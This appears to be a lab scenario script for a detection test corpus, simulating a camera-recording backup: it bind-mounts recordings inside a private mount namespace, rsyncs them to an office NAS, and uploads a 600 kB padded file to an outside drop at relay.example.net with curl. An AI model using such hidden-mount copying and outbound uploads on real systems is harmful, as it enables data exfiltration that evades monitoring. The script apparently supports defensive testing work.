#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=none half=report tool=unshare,mount,rsync seconds=36 parts=dns,camera-gate,recorder-gate,nas,outside-web
# The backup mounts the folder of recordings at a place of its own, for itself alone, and copies it to the NAS of the office; another job puts the night's configuration, 600 kB, outside.
# shellcheck disable=SC2016 # other languages have variables of their own
sleep 14; mkdir -p "$LAB/mnt" "$LAB/outside/drop"; LAB="$LAB" setsid -w unshare -m sh -c 'mount --bind "$LAB/recordings/gate" "$LAB/mnt" && rsync -a "$LAB/mnt/" rsync://10.30.0.40/recordings/bind/'
sleep 1; head -c 600000 /usr/sbin/nginx >"$LAB/etc.tgz"; LAB="$LAB" setsid -w sh -c 'curl -s -T "$LAB/etc.tgz" http://relay.example.net/drop/config-nvr'; sleep 4; [ "$(du -sb "$LAB/nas/bind" | cut -f1)" -gt 400000 ] && [ -s "$LAB/outside/drop/config-nvr" ]
